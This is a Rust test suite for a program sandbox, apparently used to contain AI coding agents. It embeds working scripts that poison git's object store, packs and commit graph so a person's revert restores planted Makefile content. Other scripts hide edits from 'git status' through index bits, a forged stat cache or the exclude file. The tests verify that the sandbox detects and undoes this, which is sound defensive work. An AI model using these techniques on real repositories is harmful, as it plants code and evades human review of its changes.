//! Red team 14, git: the person's own git, run later outside, restores or
//! hides what the program planted. git checks no object's hash when it
//! reads one and takes a pack's index at its word, so content put under a
//! committed object's name (a loose object rewritten, a pack of the
//! program's own, which git searches first) is what the person's `git
//! checkout -- f` writes back, with a clean `git diff`; and the index's
//! skip-worktree and assume-unchanged bits, a stat cache forged to match an
//! edited file, or `.git/info/exclude` leave the person's `git status`
//! empty. The session's end checks what changed in each repository
//! (`supervisor/src/git_state.rs`). The harm is checked with real git
//! outside, after the session; each attack has its control (the same script
//! outside sluice does the harm), and git's ordinary work inside leaves
//! nothing to report.

use std::path::{Path, PathBuf};
use std::process::Command;

use sluice_tests::{execute, sluice_bin, Fixture, Outcome};

use super::escape_later::{as_nobody, give_to_nobody};

const PROBE: &str = env!("CARGO_BIN_EXE_sluice-probe");

/// The policies each attack runs under.
const POLICIES: [&[&str]; 3] = [&[], &["--transparent"], &["--policy", "claude-code"]];

/// The person's repository `ws/proj` with a committed `Makefile` (its time
/// set back, so that git's stat cache, not a racy comparison, decides what
/// `git status` shows), and the hash of its blob.
fn repository_with_a_makefile(fx: &Fixture) -> (PathBuf, String) {
    let repo = fx.ws_dir.join("proj");
    std::fs::create_dir_all(&repo).unwrap();
    let makefile = repo.join("Makefile");
    std::fs::write(&makefile, "all:\n\t@echo building\n").unwrap();
    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(100);
    let file = std::fs::File::options()
        .write(true)
        .open(&makefile)
        .unwrap();
    file.set_modified(old).unwrap();
    fx.git_outside(&repo, &["init", "-q"]).assert_code(0);
    fx.git_outside(&repo, &["add", "Makefile"]).assert_code(0);
    fx.git_outside(&repo, &["commit", "-qm", "init"])
        .assert_code(0);
    let blob = fx.git_outside(&repo, &["rev-parse", "HEAD:Makefile"]);
    (repo, blob.stdout.trim().to_owned())
}

// ---------------------------------------------------------------------------
// git's object store: what the person's revert writes back.
// ---------------------------------------------------------------------------

/// Replaces the stored blob of the committed `Makefile` (a loose object,
/// the file named by its hash) with other content under the same name, and
/// edits the work tree's copy visibly: an agent's change the person will
/// revert. Arguments: the blob's hash, the canary, the repository.
const POISON_BLOB: &str = r##"
import os, sys, zlib
blob, canary = sys.argv[1], sys.argv[2]
os.chdir(sys.argv[3])
evil = ("all:\n\t@touch %s; echo building\n" % canary).encode()
path = ".git/objects/%s/%s" % (blob[:2], blob[2:])
os.chmod(path, 0o644)
os.unlink(path)
with open(path, "wb") as f:
    f.write(zlib.compress(b"blob %d\0" % len(evil) + evil))
with open("Makefile", "a") as f:
    f.write("# the agent's change\n")
print("poisoned", path)
"##;

/// The same, the object rewritten in place: its directory's entries
/// unchanged.
const POISON_BLOB_IN_PLACE: &str = r##"
import os, sys, zlib
blob, canary = sys.argv[1], sys.argv[2]
os.chdir(sys.argv[3])
evil = ("all:\n\t@touch %s; echo building\n" % canary).encode()
path = ".git/objects/%s/%s" % (blob[:2], blob[2:])
os.chmod(path, 0o644)
with open(path, "r+b") as f:
    f.truncate(0)
    f.write(zlib.compress(b"blob %d\0" % len(evil) + evil))
with open("Makefile", "a") as f:
    f.write("# the agent's change\n")
print("poisoned", path)
"##;

/// The same by a pack of the program's own (git looks in packs before
/// loose objects): one blob with the program's content, and an index that
/// names it by the committed `Makefile`'s hash. The loose object stays.
const POISON_PACK: &str = r##"
import hashlib, os, struct, sys, zlib
blob, canary = sys.argv[1], sys.argv[2]
os.chdir(sys.argv[3])
evil = ("all:\n\t@touch %s; echo building\n" % canary).encode()
n = len(evil)
c, n, head = (3 << 4) | (n & 15), n >> 4, bytearray()
while n:
    head.append(c | 0x80)
    c, n = n & 0x7f, n >> 7
head.append(c)
obj = bytes(head) + zlib.compress(evil)
body = b"PACK" + struct.pack(">II", 2, 1) + obj
sum_ = hashlib.sha1(body).digest()
oid = bytes.fromhex(blob)
idx = b"\377tOc" + struct.pack(">I", 2)
idx += b"".join(struct.pack(">I", 1 if i >= oid[0] else 0) for i in range(256))
idx += oid + struct.pack(">II", zlib.crc32(obj) & 0xffffffff, 12) + sum_
idx += hashlib.sha1(idx).digest()
name = ".git/objects/pack/pack-" + sum_.hex()
os.makedirs(".git/objects/pack", exist_ok=True)
with open(name + ".pack", "wb") as f:
    f.write(body + sum_)
with open(name + ".idx", "wb") as f:
    f.write(idx)
with open("Makefile", "a") as f:
    f.write("# the agent's change\n")
print("poisoned", name)
"##;

/// The person reverts the agent's change (`git checkout -- Makefile`) and,
/// where git restored a file, runs `make`: what the `Makefile` holds after
/// the revert, and whether the planted content ran. (A revert git refuses,
/// the object being gone, restores nothing and runs nothing.)
fn persons_revert(fx: &Fixture, repo: &Path, canary: &str) -> (Outcome, String, bool) {
    let revert = fx.git_outside(repo, &["checkout", "--", "Makefile"]);
    let content = std::fs::read_to_string(repo.join("Makefile")).unwrap_or_default();
    if revert.code() == 0 {
        let mut make = Command::new("make");
        make.arg("-s").current_dir(repo);
        execute(make);
    }
    (revert, content, Path::new(canary).exists())
}

/// The program's content never comes back on the person's revert, and
/// never runs; the session's end said what it found.
fn assert_never_restored(fx: &Fixture, repo: &Path, canary: &str, session: &Outcome) {
    let (revert, content, ran) = persons_revert(fx, repo, canary);
    assert!(!ran, "make ran the program's content\n{session}\n{revert}");
    assert!(
        !content.contains(canary),
        "{content:?}\n{session}\n{revert}"
    );
    assert!(session.stderr.contains("moved to"), "{session}");
}

fn poison(fx: &Fixture, script: &str, args: &[&str]) -> (PathBuf, String, Outcome) {
    let (repo, blob) = repository_with_a_makefile(fx);
    let canary = fx.outside("make-ran");
    let dir = repo.to_str().unwrap().to_owned();
    let program = ["/usr/bin/python3", "-c", script, &blob, &canary, &dir];
    let out = execute(fx.sluice_command(args, &program));
    out.assert_code(0);
    (repo, canary, out)
}

/// The program rewrites a loose object of the person's repository under
/// its own name (removed and written again, or in place): at the session's end its content is found not to be the
/// one its name promises and it is moved aside, so the person's revert
/// fails loudly (`unable to read`) instead of writing the program's
/// content, under `default`, `--transparent` and `claude-code`.
#[test]
fn an_object_the_program_rewrites_is_never_what_the_persons_revert_writes() {
    for args in POLICIES {
        for script in [POISON_BLOB, POISON_BLOB_IN_PLACE] {
            let fx = Fixture::new(PROBE);
            let (repo, canary, out) = poison(&fx, script, args);
            assert_never_restored(&fx, &repo, &canary, &out);
        }
    }
}

/// A pack of the program's own naming the committed blob: it does not
/// verify (`git index-pack --verify`), its index is moved aside, and the
/// person's revert restores the committed content from the loose object.
#[test]
fn a_pack_the_program_writes_is_never_what_the_persons_revert_reads() {
    for args in POLICIES {
        let fx = Fixture::new(PROBE);
        let (repo, canary, out) = poison(&fx, POISON_PACK, args);
        assert_never_restored(&fx, &repo, &canary, &out);
        let content = std::fs::read_to_string(repo.join("Makefile")).unwrap();
        assert_eq!(content, "all:\n\t@echo building\n", "{out}");
    }
}

/// Controls: outside sluice each rewrite is what the revert writes, and
/// `make` runs it.
#[test]
fn control_a_rewritten_object_or_pack_is_what_a_revert_writes() {
    for script in [POISON_BLOB, POISON_BLOB_IN_PLACE, POISON_PACK] {
        let fx = Fixture::new(PROBE);
        let (repo, blob) = repository_with_a_makefile(&fx);
        let canary = fx.outside("make-ran");
        let mut poison = Command::new("/usr/bin/python3");
        poison
            .args(["-c", script, &blob, &canary, repo.to_str().unwrap()])
            .current_dir(&repo);
        execute(poison).assert_code(0);
        let (revert, content, ran) = persons_revert(&fx, &repo, &canary);
        revert.assert_code(0);
        assert!(ran && content.contains(&canary), "{content:?}");
    }
}

/// A commit graph of the program's own: git's, written for the repository,
/// with the tree of the person's `HEAD` changed to one holding the
/// program's `Makefile` (the checksum made again). git reads a commit's
/// tree from the graph when it walks history (`git log -p`, `git show`, a
/// merge's base), so the person's review shows the program's content as
/// the person's own commit. Arguments: the canary, the repository.
const POISON_GRAPH: &str = r##"set -e
export GIT_AUTHOR_NAME=p GIT_AUTHOR_EMAIL=p@example.com
export GIT_COMMITTER_NAME=p GIT_COMMITTER_EMAIL=p@example.com
cd "$2"
printf 'all:\n\t@touch %s; echo building\n' "$1" > Makefile
git add Makefile && evil=$(git write-tree) && git reset -q
good=$(git rev-parse 'HEAD^{tree}')
git commit-graph write --reachable
python3 - "$good" "$evil" <<'EOF'
import hashlib, sys
path = ".git/objects/info/commit-graph"
graph = bytearray(open(path, "rb").read())
good, evil = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
at = graph.index(good)
graph[at:at + 20] = evil
graph[-20:] = hashlib.sha1(bytes(graph[:-20])).digest()
open(path + ".new", "wb").write(graph)
EOF
mv .git/objects/info/commit-graph.new .git/objects/info/commit-graph
echo "# the agent's change" >> Makefile
echo poisoned
"##;

/// The tree the person's `git log` gives `HEAD`, and the one its commit
/// object names.
fn persons_log_and_commit_trees(fx: &Fixture, repo: &Path) -> (String, String) {
    let log = fx.git_outside(repo, &["log", "-1", "--format=%T"]);
    let commit = fx.git_outside(repo, &["rev-parse", "HEAD^{tree}"]);
    (log.stdout, commit.stdout)
}

/// A commit graph the program forged: `git commit-graph verify` fails at
/// the session's end and it is moved aside, so the person's `git log`
/// gives `HEAD` the tree its commit names.
#[test]
fn a_commit_graph_the_program_forges_is_never_what_the_persons_log_reads() {
    for args in POLICIES {
        let fx = Fixture::new(PROBE);
        let (repo, _) = repository_with_a_makefile(&fx);
        let canary = fx.outside("make-ran");
        let dir = repo.to_str().unwrap();
        let program = ["/bin/sh", "-c", POISON_GRAPH, "sh", &canary, dir];
        let out = execute(fx.sluice_command(args, &program));
        out.assert_code(0);
        assert!(out.stderr.contains("commit graph"), "{out}");
        let (log, commit) = persons_log_and_commit_trees(&fx, &repo);
        assert_eq!(log, commit, "{out}");
    }
}

/// Control: outside sluice the forged graph is what `git log` reads.
#[test]
fn control_a_forged_commit_graph_is_what_git_log_reads() {
    let fx = Fixture::new(PROBE);
    let (repo, _) = repository_with_a_makefile(&fx);
    let canary = fx.outside("make-ran");
    let mut poison = Command::new("/bin/sh");
    poison.args(["-c", POISON_GRAPH, "sh", &canary, repo.to_str().unwrap()]);
    execute(poison).assert_code(0);
    let (log, commit) = persons_log_and_commit_trees(&fx, &repo);
    assert_ne!(log, commit);
}

// ---------------------------------------------------------------------------
// What the person's review sees.
// ---------------------------------------------------------------------------

/// Changes the committed `Makefile` and hides the change from `git status`
/// and `git diff` with the index's skip-worktree bit; adds a `conftest.py`
/// (pytest runs it) hidden by `.git/info/exclude`. Argument: the repository.
const HIDE_CHANGES: &str = "cd \"$1\" && printf 'all:\\n\\t@echo hidden\\n' > Makefile && \
    git update-index --skip-worktree Makefile && echo 'import os' > conftest.py && \
    echo conftest.py >> .git/info/exclude && echo hidden";

/// The same with the assume-unchanged bit.
const HIDE_ASSUMED: &str = "cd \"$1\" && printf 'all:\\n\\t@echo hidden\\n' > Makefile && \
    git update-index --assume-unchanged Makefile && echo hidden";

/// Edits the `Makefile` in place to the same size, puts its time back, and
/// writes into the index the change time the edit gave it: every field of
/// git's stat cache matches, so git does not read the file.
const HIDE_BY_STAT: &str = r##"
import hashlib, os, struct, sys
os.chdir(sys.argv[1])
st = os.stat("Makefile")
with open("Makefile", "r+b") as f:
    data = f.read()
    f.seek(0)
    f.write(data.replace(b"building", b"hidden!!"))
os.utime("Makefile", ns=(st.st_atime_ns, st.st_mtime_ns))
now = os.stat("Makefile")
idx = bytearray(open(".git/index", "rb").read())
struct.pack_into(">II", idx, 12, int(now.st_ctime), now.st_ctime_ns % 10**9)
idx[-20:] = hashlib.sha1(bytes(idx[:-20])).digest()
with open(".git/index.new", "wb") as f:
    f.write(idx)
os.rename(".git/index.new", ".git/index")
print("hidden")
"##;

/// A script of the above, run with the repository as its argument.
fn hiding(script: &'static str) -> Vec<&'static str> {
    if script.starts_with("cd ") {
        vec!["/bin/sh", "-c", script, "sh"]
    } else {
        vec!["/usr/bin/python3", "-c", script]
    }
}

/// What the person's review sees: `git status --porcelain` outside.
fn persons_status(fx: &Fixture, repo: &Path) -> String {
    let status = fx.git_outside(repo, &["status", "--porcelain"]);
    status.assert_code(0);
    status.stdout
}

/// What each script hides that the person's `git status` must show.
const HIDDEN: [(&str, &[&str]); 3] = [
    (HIDE_CHANGES, &["Makefile", "conftest.py"]),
    (HIDE_ASSUMED, &["Makefile"]),
    (HIDE_BY_STAT, &["Makefile"]),
];

/// The program edits a tracked file and hides it (skip-worktree,
/// assume-unchanged, a forged stat cache) or adds one named in
/// `.git/info/exclude`: at the session's end the bits are cleared and the
/// stat cache emptied (the index rewritten as git does, under its lock),
/// the exclude file moved aside, and the person's `git status` shows each,
/// under `default`, `--transparent` and `claude-code`.
#[test]
fn the_programs_changes_are_never_hidden_from_the_persons_git_status() {
    for args in POLICIES {
        for (script, shown) in HIDDEN {
            let fx = Fixture::new(PROBE);
            let (repo, _) = repository_with_a_makefile(&fx);
            let mut program = hiding(script);
            let dir = repo.to_str().unwrap();
            program.push(dir);
            let out = execute(fx.sluice_command(args, &program));
            out.assert_code(0);
            let status = persons_status(&fx, &repo);
            for name in shown {
                assert!(status.contains(name), "{name} hidden: {status:?}\n{out}");
            }
            let diff = fx.git_outside(&repo, &["diff"]);
            assert!(diff.stdout.contains("hidden"), "{diff}\n{out}");
        }
    }
}

/// In a linked worktree (`git worktree add`) of the person's repository,
/// in the workspace: its own index (in `.git/worktrees/NAME`, reached from
/// the worktree's `.git` file) and the common directory's `info/exclude`
/// are checked the same way (mutation-checked for the index: a `.git` file
/// not followed leaves the Makefile hidden).
#[test]
fn changes_hidden_in_a_linked_worktree_are_shown_too() {
    let fx = Fixture::new(PROBE);
    let (repo, _) = repository_with_a_makefile(&fx);
    let wt = fx.ws_dir.join("wt");
    let wt_arg = wt.to_str().unwrap();
    fx.git_outside(&repo, &["worktree", "add", "-q", wt_arg])
        .assert_code(0);
    let script = "cd \"$1\" && printf 'all:\\n\\t@echo hidden\\n' > Makefile && \
        git update-index --skip-worktree Makefile && echo 'import os' > conftest.py && \
        echo conftest.py >> \"$(git rev-parse --git-common-dir)/info/exclude\" && echo hidden";
    let out = execute(fx.sluice_command(&[], &["/bin/sh", "-c", script, "sh", wt_arg]));
    out.assert_code(0);
    let status = persons_status(&fx, &wt);
    assert!(status.contains("Makefile"), "{status:?}\n{out}");
    assert!(status.contains("conftest.py"), "{status:?}\n{out}");
    // Control: the same outside hides both.
    let other = fx.ws_dir.join("wt2");
    let other_arg = other.to_str().unwrap();
    fx.git_outside(&repo, &["worktree", "add", "-q", other_arg])
        .assert_code(0);
    let mut hide = Command::new("/bin/sh");
    hide.args(["-c", script, "sh", other_arg])
        .env("HOME", &fx.home_dir);
    execute(hide).assert_code(0);
    assert_eq!(persons_status(&fx, &other), "");
}

/// Controls: outside sluice the same scripts hide every change.
#[test]
fn control_git_status_hides_what_the_index_and_exclude_say() {
    for (script, _) in HIDDEN {
        let fx = Fixture::new(PROBE);
        let (repo, _) = repository_with_a_makefile(&fx);
        let program = hiding(script);
        let mut hide = Command::new(program[0]);
        hide.args(&program[1..])
            .arg(&repo)
            .env("HOME", &fx.home_dir);
        execute(hide).assert_code(0);
        assert_eq!(persons_status(&fx, &repo), "", "{script}");
        assert!(std::fs::read_to_string(repo.join("Makefile"))
            .unwrap()
            .contains("hidden"));
    }
}

/// `core.trustCtime = false` (or `core.checkStat = minimal`) would let an
/// edit that keeps the file's size and time go unseen with no index
/// written at all: the configuration is refused. Control: outside sluice
/// git takes it.
#[test]
fn git_is_not_told_to_trust_less_of_a_files_stat_data() {
    let fx = Fixture::new(PROBE);
    let (repo, _) = repository_with_a_makefile(&fx);
    let dir = repo.to_str().unwrap();
    for key in ["core.trustCtime", "core.checkStat"] {
        let value = if key == "core.checkStat" {
            "minimal"
        } else {
            "false"
        };
        let script = format!("cd \"$1\" && git config {key} {value}");
        let out = execute(fx.sluice_command(&[], &["/bin/sh", "-c", &script, "sh", dir]));
        assert_ne!(out.code(), 0, "{out}");
        let config = std::fs::read_to_string(repo.join(".git/config")).unwrap();
        assert!(
            !config.to_lowercase().contains(&key[5..].to_lowercase()),
            "{config}"
        );
        fx.git_outside(&repo, &["config", key, value])
            .assert_code(0);
        fx.git_outside(&repo, &["config", "--unset", key])
            .assert_code(0);
    }
}

/// Unprivileged (the sandbox in a user namespace of its own, the check run
/// as the person): the rewritten object and the skip-worktree bit are
/// found and undone the same way.
#[test]
fn as_an_unprivileged_user_the_persons_git_restores_and_shows_the_same() {
    let fx = Fixture::new(PROBE);
    let (repo, blob) = repository_with_a_makefile(&fx);
    std::fs::write(fx.home_dir.join(".gitconfig"), "[safe]\n\tdirectory = *\n").unwrap();
    give_to_nobody(&fx);
    let canary = fx.outside("make-ran");
    let sluice = sluice_bin().to_string_lossy().into_owned();
    let dir = repo.to_str().unwrap();
    let script = "python3 -c \"$1\" \"$2\" \"$3\" \"$4\" && cd \"$4\" && \
                  git update-index --skip-worktree Makefile && echo done";
    let program = [
        &sluice,
        "run",
        "--",
        "/bin/sh",
        "-c",
        script,
        "sh",
        POISON_BLOB,
        &blob,
        &canary,
        dir,
    ];
    let out = as_nobody(&fx, &program, "");
    out.assert_code(0);
    assert!(persons_status(&fx, &repo).contains("Makefile"), "{out}");
    assert_never_restored(&fx, &repo, &canary, &out);
}

// ---------------------------------------------------------------------------
// git's ordinary work inside: nothing found, nothing moved.
// ---------------------------------------------------------------------------

/// Commit, branch, checkout, rebase, stash, a fetch from a local remote,
/// `gc` (new packs, their reverse indexes, a commit graph), `worktree
/// list`, grafts and replace refs refused.
const ORDINARY_GIT: &str = r#"set -e
export GIT_AUTHOR_NAME=p GIT_AUTHOR_EMAIL=p@example.com
export GIT_COMMITTER_NAME=p GIT_COMMITTER_EMAIL=p@example.com
cd "$1"
b=$(git rev-parse --abbrev-ref HEAD)
git clone -q . ../up
echo one >> Makefile && git commit -qam one
git checkout -qb side && echo two > b && git add b && git commit -qm two
git checkout -q "$b" && echo three > c && git add c && git commit -qm three
git checkout -q side && git rebase -q "$b"
echo four >> Makefile && git stash -q && git stash pop -q && git commit -qam four
(cd ../up && echo five > d && git add d && git commit -qm five)
git remote add up ../up && git fetch -q up
git gc -q --aggressive
git commit-graph write --reachable
git worktree list > /dev/null
if git replace -f HEAD HEAD~1 2>/dev/null; then echo "replace made"; exit 1; fi
if (echo x > .git/info/grafts) 2>/dev/null; then echo "grafts made"; exit 1; fi
echo ordinary done
"#;

#[test]
fn git_works_inside_and_leaves_nothing_to_report() {
    for args in POLICIES {
        let fx = Fixture::new(PROBE);
        let (repo, _) = repository_with_a_makefile(&fx);
        let dir = repo.to_str().unwrap();
        let out = execute(fx.sluice_command(args, &["/bin/sh", "-c", ORDINARY_GIT, "sh", dir]));
        out.assert_code(0);
        assert!(out.stdout.contains("ordinary done"), "{out}");
        assert!(!out.stderr.contains("sluice: the program"), "{out}");
        fx.git_outside(&repo, &["fsck", "--strict"]).assert_code(0);
        assert_eq!(persons_status(&fx, &repo), "", "{out}");
        let graph = repo.join(".git/objects/info/commit-graph");
        assert!(graph.exists(), "the commit graph was moved\n{out}");
    }
}
